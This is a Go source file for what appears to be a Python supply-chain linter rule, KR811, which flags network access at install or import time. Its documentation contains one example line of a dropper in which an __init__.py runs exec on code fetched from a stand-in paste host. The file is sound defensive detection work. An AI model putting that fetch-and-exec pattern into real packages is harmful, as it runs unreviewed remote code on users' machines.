package supplychain

import (
	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
)

// InstallTimeNetwork flags network access that runs when a package is
// installed or imported.
var InstallTimeNetwork = &analysis.Rule{
	Code:       "KR811",
	Name:       "install-time-network-access",
	Summary:    "network access at install or import time",
	Severity:   analysis.SeverityHigh,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 829},
	Kinds:      []ast.Kind{ast.KindCall},
	Callees:    tails([]string{"connect", "connect_ex", "sendto"}, networkCalls),
	Run:        runInstallNetwork,
	Doc: `## What it does
Flags calls that open a connection or send a request (urllib, requests,
httpx, urllib3, http.client, a socket's connect or sendto, ftplib, smtplib,
...) in code that runs
when the package is installed or imported: the top level of a setup script
or of a package's __init__.py (including code under if, try and with), the
methods of an overriding install/develop/egg_info command, and the module
functions that such code calls. The same call inside a function that only
runs when the user calls it is not reported.

## Why is this bad?
Installing or importing a package should not talk to the network. Droppers
fetch their second stage this way, and data thieves send what they found;
even a well-meant download at install time breaks offline and reproducible
installs and runs code the user never reviewed.

## Example
~~~python
# mypkg/__init__.py
import requests
exec(requests.get("https://paste.example/raw/x1").text)
~~~

## Use instead
Ship what the package needs inside the distribution, and make any download
an explicit call the user makes:
~~~python
def download_model(path):
    return requests.get(MODEL_URL, timeout=30).content
~~~

## References
- [Python Packaging User Guide: source distributions run code on install](https://packaging.python.org/en/latest/discussions/setup-py-deprecated/)
- [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
`,
}

func runInstallNetwork(p *analysis.Pass, n ast.Node) {
	c := n.(*ast.Call)
	ic := installTime(p)
	if ic.kind == kindOther || !ic.runsAtInstall(c) {
		return
	}
	qn := p.Model.CalleeName(c)
	switch {
	case qn == "socket.socket":
		// Making a socket is not reaching out (test helpers probe for IPv6
		// this way); connecting it is.
	case networkCalls[qn]:
		p.Report(c, qn+" reaches the network "+ic.where())
	default:
		if a, ok := c.Func.(*ast.Attribute); ok && qn == "" && ruleConnectsSocket(p.Model, a.Value) {
			switch a.Attr {
			case "connect", "connect_ex", "sendto":
				p.Report(c, "socket."+a.Attr+" reaches the network "+ic.where())
			}
		}
	}
}
